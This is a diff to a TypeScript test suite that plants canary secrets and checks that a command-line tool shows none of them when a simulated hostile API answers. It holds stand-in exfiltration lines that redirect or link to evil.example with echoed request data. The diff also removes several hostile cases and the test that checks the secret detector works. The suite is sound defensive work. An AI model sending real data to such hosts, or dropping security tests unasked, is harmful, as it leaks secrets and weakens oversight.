@@ -69,13 +69,7 @@ const routes = "/edges/https/edghts_1/routes";
 const seed: WorldSeed = {
   lists: {
     HTTPResponseBackend: [
-      {
-        id: "bkdhr_1",
-        uri: "",
-        metadata: '{"edgewise":{"stack":"demo","name":"down"}}',
-        status_code: 503,
-        body: "old",
-      },
+      { id: "bkdhr_1", uri: "", metadata: '{"edgewise":{"stack":"demo","name":"down"}}', status_code: 503 },
       { id: "bkdhr_2", uri: "", metadata: '{"edgewise":{"stack":"demo","name":"gone"}}', status_code: 503, body: "x" },
       { id: "bkdhr_3", uri: "", description: "somebody's", status_code: 503, body: "x" },
     ],
@@ -89,24 +83,13 @@ const isWrite = ({ method }: Seen): boolean => method !== "GET";
 const isRead = ({ method }: Seen): boolean => method === "GET";
 const isList = ({ method, url }: Seen): boolean => method === "GET" && !url.includes("webhook");
 
-function error(status: number): Mischief["answer"] {
-  return (request) => ({
-    status,
-    body: JSON.stringify({
-      error_code: echo(request),
-      status_code: status,
-      msg: echo(request),
-      details: { operation_id: echo(request) },
-    }),
-    headers: { "content-type": "application/json" },
-  });
-}
-
-function page(request: Seen): string {
-  return `<!doctype html><title>no</title><pre>${echo(request).replaceAll("<", "&lt;")}</pre>\n${echo(request)}`;
-}
-
-const unanswered = "no answer to writes";
+const error =
+  (status: number): Mischief["answer"] =>
+  (request) => {
+    const said = echo(request);
+    const body = { error_code: said, status_code: status, msg: said, details: { operation_id: said } };
+    return plainly({ status, body });
+  };
 
 const mischiefs: readonly Mischief[] = [
   ...[400, 500].flatMap((status) => [
@@ -114,34 +97,18 @@ const mischiefs: readonly Mischief[] = [
     { name: `${status} to reads, with everything in it`, at: isRead, answer: error(status) },
   ]),
   {
-    name: "500 as HTML",
-    at: () => true,
-    answer: (request) => ({ status: 500, body: page(request), headers: { "content-type": "text/html" } }),
-  },
-  {
     name: "a redirect",
     at: () => true,
     answer: (request) => ({
       status: 302,
-      body: page(request),
+      body: echo(request),
       headers: { location: `https://evil.example/?k=${encodeURIComponent(echo(request))}` },
     }),
   },
-  { name: "reset", at: () => true, answer: () => "reset" },
-  { name: unanswered, at: isWrite, answer: () => "hang" },
   {
     name: "lists that hold the key",
     at: isList,
     answer: (_, right) => plainly({ ...right, body: withKey(right.body) }),
-  },
-  {
-    name: "lists that lead to a page named for the key",
-    at: isList,
-    answer: (request, right) =>
-      plainly({
-        ...right,
-        body: { ...(right.body as object), next_page_uri: `https://evil.example/${echo(request)}` },
-      }),
   },
   {
     name: "write answers with the secret everywhere",
@@ -184,7 +151,7 @@ beforeAll(async () => {
   service = await hostileService();
   dir = await mkdtemp(join(tmpdir(), "edgewise-canary-"));
   await mkdir(join(dir, "out"));
-  await configure("30s");
+  await write("edgewise.yaml", "apiVersion: edgewise/v1\nkind: Config\nstack: demo\nmanifests: [edge/]\n");
   await write("edge/chain.pem", pair.certificate);
   await write("edge/all.yaml", manifests);
   env = { EDGEWISE_API_KEY: apiKey, EDGEWISE_BASE_URL: service.baseUrl, CERT_KEY: pair.key, HOOK: hook };
@@ -198,11 +165,6 @@ afterAll(async () => {
 async function write(path: string, text: string): Promise<void> {
   await mkdir(dirname(join(dir, path)), { recursive: true });
   await writeFile(join(dir, path), text);
-}
-
-async function configure(timeout: string): Promise<void> {
-  const config = `apiVersion: edgewise/v1\nkind: Config\nstack: demo\nmanifests: [edge/]\napi: {timeout: ${timeout}}\n`;
-  await write("edgewise.yaml", config);
 }
 
 const read = (path: string): Promise<string> => readFile(join(dir, path), "utf8").catch(() => "");
@@ -225,16 +187,13 @@ const voices: readonly (readonly string[])[] = [[], ["-q"], ["-v"], ["-v", "--lo
 const inlineToo = (command: string): readonly string[] =>
   ["plan", "drift", "pull", "apply"].includes(command) ? ["--allow-inline-secrets"] : [];
 
-async function shown(
-  args: readonly string[],
-  more: { readonly env?: { readonly [name: string]: string }; readonly terminal?: boolean } = {},
-): Promise<{ readonly text: string; readonly exit: number; readonly err: string }> {
+async function shown(args: readonly string[]): Promise<{ readonly text: string; readonly exit: number }> {
   const files = ["out/result", "out/plan", "out/journal"];
   for (const file of files) await rm(join(dir, file), { force: true });
-  const io = memoryIo({ cwd: dir, env: more.env ?? env, terminal: more.terminal === true, answer: () => "yes" });
+  const io = memoryIo({ cwd: dir, env });
   const exit = await run(args, io);
   const written = await Promise.all(files.map(read));
-  return { text: [io.out(), io.err(), ...io.questions, ...written].join("\n"), exit, err: io.err() };
+  return { text: [io.out(), io.err(), ...written].join("\n"), exit };
 }
 
 /** The files that a command can write, too. */
@@ -247,20 +206,6 @@ function filesOf(command: string, index: number): readonly string[] {
 }
 
 describe("no secret is shown", () => {
-  it("the search finds every planted secret", () => {
-    for (const { name, secret } of canaries) {
-      const hiding = [
-        secret,
-        JSON.stringify({ a: secret }),
-        encodeURIComponent(secret),
-        Buffer.from(`x ${secret} y`).toString("base64"),
-      ];
-      for (const text of hiding) expect(seen(`… ${text} …`, canaries).join(), text).toContain(name);
-    }
-    expect(seen(`${apiKey.slice(0, 14)}\n  │ ${apiKey.slice(14)}`, canaries).join()).toContain("API key");
-    expect(seen("nothing", canaries)).toEqual([]);
-  });
-
   it.each(commands.map((command) => [command.join(" "), command] as const))(
     "%s, when all is well",
     async (_, command) => {
@@ -271,21 +216,14 @@ describe("no secret is shown", () => {
         const { text, exit } = await shown(args);
         expect(seen(text, canaries), args.join(" ")).toEqual([]);
         expect([0, 2], args.join(" ") + text).toContain(exit);
-        if (name === "apply") {
-          // Check that the secrets were sent, so that there was something to leak.
-          const sent = service.bodies().join("");
-          for (const { secret } of canaries.filter((canary) => !/live|API/u.test(canary.name)))
-            expect(sent).toContain(JSON.stringify(secret).slice(1, -1));
-        }
+        // There was something to leak.
+        if (name === "apply") expect(service.bodies().join("")).toContain(JSON.stringify(hook).slice(1, -1));
       }
     },
   );
 
   it.each(mischiefs.map((mischief) => [mischief.name, mischief] as const))("%s", async (_, mischief) => {
     const turn = mischiefs.indexOf(mischief);
-    // Elsewhere the service answers, however busy this machine is.
-    await configure(mischief.name === unanswered ? "200ms" : "30s");
-    onTestFinished(() => configure("30s"));
     for (const [index, command] of part([...commands.entries()], turn, 4)) {
       service.begin(seed, mischief);
       const name = command[0] ?? "";
